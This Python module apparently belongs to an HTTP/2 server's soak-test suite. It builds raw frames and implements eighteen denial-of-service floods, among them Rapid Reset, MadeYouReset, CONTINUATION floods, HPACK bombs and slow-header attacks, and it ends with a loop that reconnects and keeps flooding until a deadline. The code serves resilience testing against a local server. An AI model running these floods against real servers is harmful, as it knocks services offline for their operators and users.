"""HTTP/2 of a hostile client: frames, byte by byte, and the floods that script/soak sends."""
import socket
import ssl
import struct
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PRIORITY_UPDATE = 16
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, body=b""):
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def field(name, value):
    """A literal that is not indexed (RFC 7541 section 6.2.2), each part shorter than 127 octets."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path=b"/", method=b"GET", more=b""):
    return (field(b":method", method) + field(b":scheme", b"http") + field(b":path", path) + field(b":authority", b"soak") + more)


def settings(**values):
    numbers = {"table": 1, "streams": 3, "window": 4, "frame": 5}
    return frame(SETTINGS, body=b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def connect(address, tls=False):
    connection = socket.create_connection(address, timeout=10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="localhost")
    return connection


# ---- floods: each yields what is sent next; a stream's numbers go on over its calls ------------------------------------------

def streams():
    return range(1, 1 << 30, 2)


def rapid_reset():
    """CVE-2023-44487: requests that are reset at once."""
    yield PREFACE + settings()
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head()) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset():
    """CVE-2025-8671: frames for which the server resets the stream itself."""
    yield PREFACE + settings()
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head(b"/chunks", b"POST")) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def window_overflow():
    """The same by a window that grows too large."""
    yield PREFACE + settings()
    most = struct.pack(">I", 0x7FFFFFFF)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head(b"/chunks", b"POST")) + frame(WINDOW_UPDATE, 0, stream, most)


def continuation():
    """CVE-2024-27316 and its like: a block of fields that never ends."""
    yield PREFACE + settings() + frame(HEADERS, END_STREAM, 1, head())
    piece = b"".join(field(b"x%d" % i, b"y" * 100) for i in range(100))
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuation():
    yield PREFACE + settings() + frame(HEADERS, END_STREAM, 1, head())
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def pings():
    yield PREFACE + settings()
    while True:
        yield frame(PING, body=b"12345678") * 1000


def many_settings():
    yield PREFACE + settings()
    while True:
        yield settings(window=65535, table=4096) * 500


def empty_data():
    yield PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head(b"/chunks", b"POST"))
    while True:
        yield frame(DATA, 0, 1) * 1000


def padded_data():
    """Frames that are all padding: nothing arrives, everything counts."""
    yield PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head(b"/chunks", b"POST"))
    while True:
        yield frame(DATA, 8, 1, bytes([255]) + bytes(255)) * 100


def priorities():
    yield PREFACE + settings()
    for stream in streams():
        yield b"".join(frame(PRIORITY, 0, stream + 2 * i, struct.pack(">IB", 0, 15)) for i in range(500))


def priority_updates():
    yield PREFACE + settings()
    for stream in streams():
        yield b"".join(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream + 2 * i) + b"u=1") for i in range(500))


def tiny_windows():
    yield PREFACE + settings(window=0) + frame(HEADERS, END_STREAM | END_HEADERS, 1, head(b"/stream"))
    while True:
        yield (frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))) * 500


def unknown_frames():
    yield PREFACE + settings()
    while True:
        yield frame(0x77, 0, 0, b"x" * 8) * 1000


def hpack_bomb():
    """CVE-2026-49975: one octet for each field, a closed window holds what they became."""
    yield PREFACE + settings(window=0)
    fill = b"\x40" + bytes([4]) + b"name" + bytes([100]) + b"v" * 100
    references = b"\xbe" * 16000
    for stream in streams():
        block = head(b"/stream", more=fill if stream == 1 else b"")
        yield frame(HEADERS, END_STREAM, stream, block) + b"".join(
            frame(CONTINUATION, 0, stream, references) for _ in range(7)) + frame(CONTINUATION, END_HEADERS, stream, references)


def cookie_crumbs():
    """The same by crumbs of a cookie, which are joined."""
    yield PREFACE + settings(window=0)
    fill = b"\x40" + bytes([6]) + b"cookie" + bytes([3]) + b"a=b"
    for stream in streams():
        block = head(b"/stream", more=fill if stream == 1 else b"")
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block + b"\xbe" * 8000)


def closed_windows():
    """Large answers that nobody takes."""
    yield PREFACE + settings(window=0)
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(b"/stream" if stream % 4 == 1 else b"/file"))


def many_streams():
    """More requests than are allowed at once, for ever."""
    yield PREFACE + settings(window=0)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, head(b"/chunks", b"POST"))


def slow_heads():
    """A block of fields, one octet a second."""
    yield PREFACE + settings() + frame(HEADERS, END_STREAM, 1, head())
    while True:
        time.sleep(1)
        yield frame(CONTINUATION, 0, 1, b"")


FLOODS = [rapid_reset, made_you_reset, window_overflow, continuation, empty_continuation, pings, many_settings, empty_data,
          padded_data, priorities, priority_updates, tiny_windows, unknown_frames, hpack_bomb, cookie_crumbs, closed_windows,
          many_streams, slow_heads]


def flood(kind, address, tls, until):
    """Sends one flood until then, on connections made anew when the server ends them. Returns how many it took, and how many
    bytes were sent on the longest."""
    connections, longest = 0, 0
    while time.monotonic() < until:
        sent = 0
        connections += 1
        try:
            with connect(address, tls) as connection:
                connection.settimeout(1)
                for piece in kind():
                    connection.sendall(piece)
                    sent += len(piece)
                    drain(connection)
                    if time.monotonic() > until:
                        break
        except (OSError, TimeoutError):
            pass
        longest = max(longest, sent)
    return connections, longest


def drain(connection):
    """Reads what is there, so that the server is not only waiting for us."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        raise ConnectionError("the server has closed")
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(1)
